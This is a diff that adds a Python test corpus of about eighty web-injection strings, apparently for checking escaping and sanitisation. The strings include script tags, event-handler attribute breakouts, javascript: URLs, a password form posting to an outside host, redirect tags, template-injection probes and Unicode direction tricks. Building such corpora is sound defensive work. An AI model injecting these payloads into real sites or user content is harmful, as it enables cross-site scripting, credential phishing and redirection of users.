@@ -1,0 +1,98 @@
+"""Eighty texts that run, load, hide or lead away wherever a page takes them for more than text.
+
+Written for this house, by the places in which a text can stand: between tags, in attributes with
+either quote or none, in fields, titles, styles, scripts, addresses and templates.
+"""
+
+from typing import Final
+
+BREAKOUT: Final = "\"'></title></textarea></script><svg/onload=alert(1)>"
+"""One that leaves every place there is."""
+
+CORPUS: Final = (
+    # Elements, as browsers forgive them.
+    "<script>alert(1)</script>",
+    "<ScRiPt>alert(1)</sCrIpT>",
+    "<script src=https://elsewhere.example/x.js></script>",
+    "<script src=//elsewhere.example/x.js>",
+    "<script\t>alert(1)</script\n>",
+    "<script/xss>alert(1)</script>",
+    "<<script>alert(1)//<</script>",
+    "</script><script>alert(1)</script>",
+    "<!--><script>alert(1)</script-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<img src=x onerror=alert(1)>",
+    "<img/src=x/onerror=alert(1)>",
+    "<img src=https://elsewhere.example/pixel.gif>",
+    "<image src=x onerror=alert(1)>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x>",
+    "<svg><use href='https://elsewhere.example/x.svg#x'>",
+    "<math href='javascript:alert(1)'>x</math>",
+    "<body onload=alert(1)>",
+    "<video><source onerror=alert(1)></video>",
+    "<audio src=x onerror=alert(1)>",
+    "<details open ontoggle=alert(1)>x</details>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    "<input autofocus onfocus=alert(1)>",
+    "<select autofocus onfocus=alert(1)>",
+    "<textarea autofocus onfocus=alert(1)>",
+    "<button formaction='javascript:alert(1)'>x</button>",
+    "<iframe srcdoc='<script>alert(1)</script>'>",
+    "<iframe src='javascript:alert(1)'>",
+    "<object data='javascript:alert(1)'>",
+    "<embed src='https://elsewhere.example/x.swf'>",
+    "<link rel=stylesheet href=https://elsewhere.example/x.css>",
+    "<style>*{display:none}</style>",
+    "<style>@import 'https://elsewhere.example/x.css';</style>",
+    "<meta http-equiv=refresh content='0;url=https://elsewhere.example'>",
+    "<base href='https://elsewhere.example/'>",
+    "<form action='https://elsewhere.example'><input name=password>",
+    "<a href='https://elsewhere.example'>x</a>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "<template><img src=x onerror=alert(1)></template>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<plaintext>",
+    "<xmp><img src=x onerror=alert(1)></xmp>",
+    "<dialog open onclose=alert(1)>x</dialog>",
+    # Out of attributes and fields.
+    '"><img src=x onerror=alert(1)>',
+    "'><img src=x onerror=alert(1)>",
+    '" onmouseover="alert(1)',
+    "' onmouseover='alert(1)",
+    '" autofocus onfocus="alert(1)" x="',
+    "` onmouseover=alert(1)",
+    "x onmouseover=alert(1)",
+    '" style="background:url(https://elsewhere.example/)',
+    '" hx-get="https://elsewhere.example" hx-trigger="load',
+    "' hx-on:load='alert(1)",
+    '" data-live="https://elsewhere.example',
+    "</title><script>alert(1)</script>",
+    "</textarea><script>alert(1)</script>",
+    "</option></select><img src=x onerror=alert(1)>",
+    "</td></tr></table><img src=x onerror=alert(1)>",
+    "</code></pre><img src=x onerror=alert(1)>",
+    "</style><img src=x onerror=alert(1)>",
+    "--><img src=x onerror=alert(1)>",
+    # Addresses and scripts.
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    "java\tscript:alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "//elsewhere.example/",
+    "\\\\elsewhere.example\\x",
+    "';alert(1);//",
+    "'-alert(1)-'",
+    "${alert(1)}",
+    # Templates, and what was escaped already.
+    "{{ 7 * 7 }}",
+    "{% for x in () %}",
+    "{{ ''.__class__.__mro__ }}",
+    "#{7*7}<%= 7*7 %>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;img src=x onerror=alert(1)&#62;",
+    # Letters that turn or hide others.
+    "\u202egnirts\u202c",
+    "a\u200bb\u2066c\u2069\ufeff",
+)
